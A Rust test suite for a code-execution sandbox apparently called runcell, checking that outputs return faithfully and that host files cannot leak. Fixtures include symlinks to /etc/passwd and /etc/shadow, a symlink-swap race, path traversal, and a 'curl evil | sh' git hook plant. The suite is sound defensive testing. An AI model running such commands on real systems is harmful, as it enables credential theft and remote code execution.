//! Files in and out: copies in, outputs back, and no trick that makes runcell return host
//! content, follow a link, read a device or fall over.

mod common;

use std::fs;

use common::*;
use serde_json::Value;

fn files(r: &Run) -> Vec<Value> {
    r.verdict["files"].as_array().cloned().unwrap_or_default()
}

fn paths(r: &Run) -> Vec<String> {
    files(r)
        .iter()
        .map(|f| f["path"].as_str().unwrap().to_string())
        .collect()
}

fn content(f: &Value) -> Option<Vec<u8>> {
    use std::process::Command;
    let b64 = f["content_base64"].as_str()?;
    // Decode with the host's base64 tool rather than a test dependency.
    let out = Command::new("base64")
        .arg("-d")
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .and_then(|mut c| {
            use std::io::Write;
            c.stdin.take().unwrap().write_all(b64.as_bytes())?;
            c.wait_with_output()
        })
        .unwrap();
    Some(out.stdout)
}

fn sha256(data: &[u8]) -> String {
    use std::io::Write;
    let mut c = std::process::Command::new("sha256sum")
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    c.stdin.take().unwrap().write_all(data).unwrap();
    let out = c.wait_with_output().unwrap();
    String::from_utf8_lossy(&out.stdout)
        .split_whitespace()
        .next()
        .unwrap()
        .to_string()
}

#[test]
fn input_files_are_copies_and_only_new_or_changed_files_come_back() {
    let dir = tempfile::tempdir().unwrap();
    let src = dir.path().join("in.csv");
    fs::write(&src, "name,value\na,1\nb,2\n").unwrap();
    let untouched = dir.path().join("keep.txt");
    fs::write(&untouched, "same").unwrap();
    let spec = format!("{}:data/in.csv", src.display());
    let keep = format!("{}:keep.txt", untouched.display());
    let r = run(
        "python",
        r#"
import os
rows = open("data/in.csv").read().splitlines()
os.makedirs("out", exist_ok=True)
open("out/double.csv", "w").write("\n".join(rows[1:]) * 2)
open("data/in.csv", "a").write("c,3\n")   # changes the copy, never the original
print(len(rows), open("keep.txt").read())
"#,
        &["--file", &spec, "--file", &keep],
    );
    r.assert_ok();
    assert_eq!(r.stdout(), "3 same\n");
    assert_eq!(
        paths(&r),
        ["data/in.csv", "out/double.csv"],
        "keep.txt and main.py unchanged"
    );
    assert_eq!(
        fs::read_to_string(&src).unwrap(),
        "name,value\na,1\nb,2\n",
        "original untouched"
    );
    let f = &files(&r)[1];
    assert_eq!(f["mime_type"], "text/csv");
    let body = content(f).unwrap();
    assert_eq!(body, b"a,1\nb,2a,1\nb,2");
    assert_eq!(f["size"], body.len());
    assert_eq!(f["sha256"], sha256(&body));
}

#[test]
fn input_paths_that_escape_are_invalid_requests() {
    let dir = tempfile::tempdir().unwrap();
    let src = dir.path().join("x.txt");
    fs::write(&src, "x").unwrap();
    for dest in ["../x.txt", "/etc/x.txt", "a/../../x", "main.py", "."] {
        let spec = format!("{}:{dest}", src.display());
        let r = run("python", "print(1)", &["--file", &spec]);
        r.assert_category("invalid_request");
        assert_eq!(r.code, Some(2), "{dest}");
    }
    let r = run("python", "print(1)", &["--file", "/nonexistent/file.csv"]);
    r.assert_category("invalid_request");
}

#[test]
fn symlinks_fifos_and_hard_links_never_leak_host_content() {
    let r = run(
        "python",
        r#"
import os, errno
os.symlink("/etc/passwd", "passwd_link")
os.symlink("/proc/1/environ", "environ_link")
os.symlink("/", "root_link")
os.makedirs("d", exist_ok=True)
os.symlink("/etc", "d/etc_link")
os.mkfifo("pipe")
try:
    os.link("/etc/passwd", "hard")       # a host file on another mount: impossible
except OSError as e:
    print("link", errno.errorcode[e.errno])
try:
    os.link("/tmp/t0", "x") if open("/tmp/t0", "w").write("t") else None   # /tmp is another mount
except OSError as e:
    print("tmp link", errno.errorcode[e.errno])
open("orig", "w").write("sandbox data")
os.link("orig", "hard_ok")                # within /workspace: just sandbox data, twice
"#,
        &[],
    );
    r.assert_ok();
    assert_eq!(r.stdout(), "link EXDEV\ntmp link EXDEV\n");
    assert_eq!(
        paths(&r),
        ["hard_ok", "orig"],
        "no symlink, no fifo, only regular files"
    );
    for f in files(&r) {
        assert_eq!(content(&f).unwrap(), b"sandbox data");
    }
}

#[test]
fn a_symlink_swapping_process_is_dead_before_collection() {
    // A daemon keeps swapping a regular file for a symlink to host files. It is killed with the
    // run, before collection, so collection sees a still tree and never follows the link.
    let r = run(
        "python",
        r#"
import os
r, w = os.pipe()
if os.fork() == 0:
    os.setsid()
    while True:
        try:
            open("swap.tmp", "w").write("regular")
            os.replace("swap.tmp", "swap")
            os.symlink("/etc/shadow", "swap.lnk")
            os.replace("swap.lnk", "swap")
        except OSError:
            pass
        if w is not None:
            os.write(w, b"swapped")
            os.close(w)
            w = None
# Exit while the swapper is at work: after its first full swap.
os.read(r, 7)
"#,
        &[],
    );
    r.assert_ok();
    for f in files(&r) {
        let body = content(&f).unwrap_or_default();
        assert!(!String::from_utf8_lossy(&body).contains("root:"), "{f}");
        if f["path"] == "swap" {
            assert_eq!(body, b"regular");
        }
    }
}

/// Issue 10: names that differ only in invalid UTF-8 collapsed into one path; they are left
/// out (counted, with a warning) and every returned path is exactly a file's name.
#[test]
fn odd_names_come_back_faithfully_and_non_utf8_names_are_left_out() {
    let r = run(
        "python",
        r#"
import os
for name in [b"new\nline.txt", b"bad\xffbyte.txt", b"bad\xfebyte.txt", b"-rf", b"...", b" spaced ",
             "bad\ufffdbyte.txt".encode()]:
    with open(name, "wb") as f: f.write(name)
"#,
        &[],
    );
    r.assert_ok();
    let mut p = paths(&r);
    p.sort();
    assert_eq!(
        p,
        [
            " spaced ",
            "-rf",
            "...",
            "bad\u{fffd}byte.txt",
            "new\nline.txt"
        ]
    );
    let real = files(&r)
        .into_iter()
        .find(|f| f["path"] == "bad\u{fffd}byte.txt")
        .unwrap();
    assert_eq!(content(&real).unwrap(), "bad\u{fffd}byte.txt".as_bytes());
    assert_eq!(r.verdict["files_omitted"], 2);
    assert_eq!(
        r.verdict["warnings"],
        serde_json::json!(["2 output file(s) left out: their paths are not valid UTF-8"])
    );
}

/// Issue 10: one over-long output path made the whole collection fail; it is left out and
/// the other files come back (and are written to --output-dir, which reports the one left
/// out in its status).
#[test]
fn an_over_long_output_path_is_left_out_and_the_rest_come_back() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("out");
    let r = run(
        "python",
        r#"
import os
for i in range(30):
    os.makedirs("d" * 200, exist_ok=True)
    os.chdir("d" * 200)
open("long.txt", "w").write("L")
os.chdir("/workspace")
open("a.txt", "w").write("A")
open("z.txt", "w").write("Z")
"#,
        &["--output-dir", out.to_str().unwrap()],
    );
    r.assert_ok();
    assert_eq!(paths(&r), ["a.txt", "z.txt"]);
    assert_eq!(r.verdict["files_omitted"], 1);
    assert_eq!(fs::read_to_string(out.join("a.txt")).unwrap(), "A");
    assert_eq!(fs::read_to_string(out.join("z.txt")).unwrap(), "Z");
    assert_eq!(r.code, Some(125));
}

#[test]
fn size_caps_are_flagged_and_the_hash_still_covers_the_whole_file() {
    let r = run(
        "python",
        r#"
open("big.bin", "wb").write(b"\x01" * (11 << 20))   # over the 10 MiB per-file cap
open("small.txt", "w").write("ok")
"#,
        &["--disk", "64M", "--memory", "256M"],
    );
    r.assert_ok();
    let f = files(&r);
    assert_eq!(f[0]["path"], "big.bin");
    assert_eq!(f[0]["size"], 11 << 20);
    assert_eq!(f[0]["truncated"], true);
    assert!(f[0]["content_base64"].is_null());
    assert_eq!(f[0]["sha256"], sha256(&vec![1u8; 11 << 20]));
    assert_eq!(f[1]["path"], "small.txt");
    assert_eq!(content(&f[1]).unwrap(), b"ok");
    assert!(f[1].get("truncated").is_none());
}

#[test]
fn the_file_count_cap_holds_and_many_tiny_files_do_not_stall_collection() {
    let r = run(
        "python",
        r#"
import os
os.makedirs("many", exist_ok=True)
for i in range(20000):
    open(f"many/f{i:05}", "w").close()
"#,
        &["--disk", "256M", "--timeout", "60"],
    );
    r.assert_ok();
    assert_eq!(files(&r).len(), 100, "at most 100 files are returned");
    assert_eq!(r.verdict["files_omitted"], 19_900);
    assert_eq!(paths(&r)[0], "many/f00000", "sorted by path");
}

#[test]
fn outputs_written_before_a_timeout_or_a_flood_still_come_back() {
    let r = run(
        "python",
        "open('partial.txt', 'w').write('done so far')\nwhile True: pass",
        &["--timeout", "1"],
    );
    r.assert_category("timeout");
    assert_eq!(paths(&r), ["partial.txt"]);
    let r = run(
        "bash",
        "echo result > out.txt; yes flood",
        &["--output", "64K"],
    );
    r.assert_category("output_limit");
    assert_eq!(paths(&r), ["out.txt"]);
}

#[test]
fn output_dir_receives_the_files_never_executable() {
    use std::os::unix::fs::PermissionsExt;
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("out");
    let r = run(
        "python",
        "import os\nos.makedirs('r', exist_ok=True)\nopen('r/a.txt','w').write('A')\n\
         open('run.sh','w').write('#!/bin/sh')\nos.chmod('run.sh', 0o4755)",
        &["--output-dir", out.to_str().unwrap()],
    );
    r.assert_ok();
    assert_eq!(r.code, Some(0));
    assert_eq!(fs::read_to_string(out.join("r/a.txt")).unwrap(), "A");
    let mode = fs::metadata(out.join("run.sh"))
        .unwrap()
        .permissions()
        .mode();
    assert_eq!(
        mode & 0o7133,
        0,
        "created 0644 whatever the sandbox's mode: {mode:o}"
    );
    assert!(files(&r).iter().all(|f| f.get("not_written").is_none()));
}

/// Issue 10: `--output-dir .` inside a repository let a program replace
/// `.git/hooks/pre-commit` in place, and the hook stayed executable. A directory that is not
/// empty is refused before anything runs.
#[test]
fn output_dir_that_is_not_empty_is_refused_before_the_program_runs() {
    use std::os::unix::fs::PermissionsExt;
    let repo = tempfile::tempdir().unwrap();
    let hook = repo.path().join(".git/hooks/pre-commit");
    fs::create_dir_all(hook.parent().unwrap()).unwrap();
    fs::write(&hook, "#!/bin/sh\nexit 0\n").unwrap();
    fs::set_permissions(&hook, fs::Permissions::from_mode(0o755)).unwrap();
    let r = run(
        "bash",
        "mkdir -p .git/hooks; echo 'curl evil | sh' > .git/hooks/pre-commit; \
         chmod +x .git/hooks/pre-commit; echo ran",
        &["--output-dir", repo.path().to_str().unwrap()],
    );
    r.assert_category("invalid_request");
    assert_eq!(r.code, Some(2));
    assert!(
        r.message().contains("exists and is not empty"),
        "{}",
        r.message()
    );
    assert!(r.verdict["exit_code"].is_null(), "nothing ran");
    assert_eq!(fs::read_to_string(&hook).unwrap(), "#!/bin/sh\nexit 0\n");
}

/// Issue 10: outputs that are not written (hidden names, content over the cap) are listed
/// with the reason, and the status says DIR is incomplete.
#[test]
fn outputs_not_written_are_reported_and_hidden_names_never_written() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("out");
    let r = run(
        "bash",
        "mkdir -p .git/hooks; echo evil > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; \
         echo k > .bashrc; echo ok > ok.txt; head -c 11M /dev/zero > big.bin",
        &["--output-dir", out.to_str().unwrap(), "--disk", "64M"],
    );
    r.assert_ok();
    assert_eq!(r.code, Some(125), "DIR does not hold every output");
    let reason = |p: &str| {
        files(&r)
            .into_iter()
            .find(|f| f["path"] == p)
            .unwrap_or_else(|| panic!("{p} in {:#}", r.verdict))["not_written"]
            .as_str()
            .map(str::to_string)
    };
    assert!(reason(".git/hooks/pre-commit")
        .unwrap()
        .contains("hidden name"));
    assert!(reason(".bashrc").unwrap().contains("hidden name"));
    assert!(reason("big.bin").unwrap().contains("size cap"));
    assert_eq!(reason("ok.txt"), None);
    let mut names: Vec<_> = fs::read_dir(&out)
        .unwrap()
        .map(|e| e.unwrap().file_name().into_string().unwrap())
        .collect();
    names.sort();
    assert_eq!(names, ["ok.txt"]);
    let warnings = r.verdict["warnings"].to_string();
    assert!(
        warnings.contains("3 output file(s) not written"),
        "{warnings}"
    );
    // A program that failed keeps its own exit code.
    let out2 = dir.path().join("out2");
    let r = run(
        "bash",
        "echo k > .hidden; exit 3",
        &["--output-dir", out2.to_str().unwrap()],
    );
    assert_eq!(r.code, Some(3));
}

/// Without --json, every output not written is printed with the reason.
#[test]
fn outputs_not_written_are_printed() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("out");
    let o = std::process::Command::new(runcell_bin())
        .args([
            "run",
            "-l",
            "bash",
            "-c",
            "echo x > .env; echo y > y.txt",
            "--output-dir",
        ])
        .arg(&out)
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&o.stderr);
    assert_eq!(o.status.code(), Some(125), "{err}");
    assert!(
        err.contains(&format!("runcell: wrote {}", out.join("y.txt").display())),
        "{err}"
    );
    assert!(
        err.contains("runcell: not written: .env: '.env' is a hidden name"),
        "{err}"
    );
}

/// `output_files` is a limit like the others: a request may ask for fewer (or more, up to the
/// operator's maximum) files back, and the rest are counted.
#[test]
fn a_request_chooses_how_many_output_files_come_back() {
    let code = "for i in range(5):\n    open(f'f{i}.txt', 'w').write(str(i))\n";
    let r = run("python", code, &["--limit", "output_files=2"]);
    r.assert_ok();
    assert_eq!(paths(&r), ["f0.txt", "f1.txt"]);
    assert_eq!(r.verdict["files_omitted"], 3);
    assert_eq!(r.verdict["limits"]["output_files"], 2);
    let r = run("python", code, &["--limit", "output_files=0"]);
    r.assert_ok();
    assert_eq!(files(&r).len(), 0);
    assert_eq!(r.verdict["files_omitted"], 5);
    let r = run("python", code, &["--limit", "output_files=101"]);
    r.assert_category("invalid_request");
    assert!(r.verdict["error"]["message"]
        .as_str()
        .unwrap()
        .contains("output_files is 101, above the maximum of 100"));
}
